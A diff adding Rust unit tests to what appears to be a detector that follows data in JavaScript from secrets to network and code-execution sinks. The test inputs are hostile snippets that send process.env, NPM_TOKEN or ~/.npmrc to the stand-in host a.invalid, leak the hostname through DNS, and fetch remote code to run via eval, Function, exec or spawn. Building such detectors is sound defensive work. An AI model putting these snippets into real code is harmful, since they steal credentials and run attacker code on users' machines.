@@ -320,3 +320,121 @@ fn what_is_not_javascript_is_told() {
     );
     assert_eq!(facts.hits.len(), 1);
 }
+
+fn flows(text: &str) -> Vec<String> {
+    of(text)
+        .flows
+        .iter()
+        .map(|flow| {
+            let encoded = if flow.encoded { " encoded" } else { "" };
+            format!(
+                "{:?} {} -> {:?} {}{encoded}",
+                flow.source, flow.from, flow.sink, flow.to
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn data_is_followed_to_where_it_leaves() {
+    assert_eq!(
+        flows("fetch('https://a.invalid/?' + process.env.NPM_TOKEN)"),
+        ["Variable process.env.NPM_TOKEN -> Url fetch"]
+    );
+    assert_eq!(
+        flows(
+            "const body = JSON.stringify(process.env); const r = require('https').request({ hostname: 'a.invalid', method: 'POST' }); r.write(body); r.end()"
+        ),
+        ["Environment process.env -> Body https.request().write encoded"]
+    );
+    assert_eq!(
+        flows("const fs = require('fs'), path = require('path'), os = require('os'), axios = require('axios');
+            const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+            axios.post('https://a.invalid', { rc })"),
+        ["SecretFile fs.readFileSync(\"~/.npmrc\") -> Body axios.post"]
+    );
+    assert_eq!(
+        flows(
+            "export function check(seed) { fetch('https://a.invalid', { headers: { 'x-id': seed } }) }"
+        ),
+        ["KeyMaterial parameter seed -> Header fetch"]
+    );
+    assert_eq!(
+        flows(
+            "require('https').get('https://a.invalid', res => { let s = ''; res.on('data', d => s += d); res.on('end', () => eval(s)) })"
+        ),
+        ["Network https.get -> Code eval"]
+    );
+    assert_eq!(
+        flows("fetch('https://a.invalid').then(r => r.text()).then(code => new Function(code)())"),
+        ["Network fetch -> Code Function"]
+    );
+    assert_eq!(
+        flows(
+            "async function go() { const r = await fetch('u'); const t = await r.text(); require('child_process').exec(t) } go()"
+        ),
+        ["Network fetch -> Process child_process.exec"]
+    );
+}
+
+#[test]
+fn functions_classes_and_events_do_not_hide_data() {
+    assert_eq!(
+        flows(
+            "function send(what) { fetch('https://a.invalid', { method: 'POST', body: what }) } send(process.env)"
+        ),
+        ["Environment process.env -> Body fetch"]
+    );
+    assert_eq!(
+        flows(
+            "class Box { constructor(s) { this.s = s } flush() { fetch('https://a.invalid', { body: this.s }) } put(s) { this.s = s } } const b = new Box(); b.put(process.env); b.flush()"
+        ),
+        ["Environment process.env -> Body fetch"]
+    );
+    assert_eq!(
+        flows(
+            "const e = new (require('events'))(); e.on('found', d => fetch('https://a.invalid', { body: d })); e.emit('found', process.env)"
+        ),
+        ["Environment process.env -> Body fetch"]
+    );
+    assert_eq!(
+        flows(
+            "const all = []; for (const k in process.env) all.push(process.env[k]); fetch('https://a.invalid', { body: all.join() })"
+        ),
+        ["Environment process.env[] -> Body fetch"]
+    );
+    assert_eq!(
+        flows("require('dns').lookup(require('os').hostname() + '.a.invalid', () => {})"),
+        ["Host os.hostname() -> Dns dns.lookup"]
+    );
+}
+
+#[test]
+fn what_does_not_flow_is_not_told() {
+    assert_eq!(
+        flows("const t = process.env.NPM_TOKEN; log(t); fetch('https://a.invalid')"),
+        [""; 0]
+    );
+    assert_eq!(
+        flows("if (process.env.DEBUG) fetch('https://a.invalid')"),
+        [""; 0]
+    );
+    assert_eq!(
+        flows("const o = { url: 'https://a.invalid', secret: process.env.KEY }; fetch(o.url)"),
+        [""; 0]
+    );
+    assert_eq!(
+        flows("const r = await fetch('u'); console.log(await r.json())"),
+        [""; 0]
+    );
+}
+
+#[test]
+fn what_is_fetched_and_run_later_is_told() {
+    assert_eq!(
+        flows(
+            "const fs = require('fs'), cp = require('child_process'); require('https').get('u', res => { const f = '/tmp/x'; res.pipe(fs.createWriteStream(f)); cp.spawn(f) })"
+        ),
+        ["Network https.get -> RunFile fs.createWriteStream().pipe"]
+    );
+}
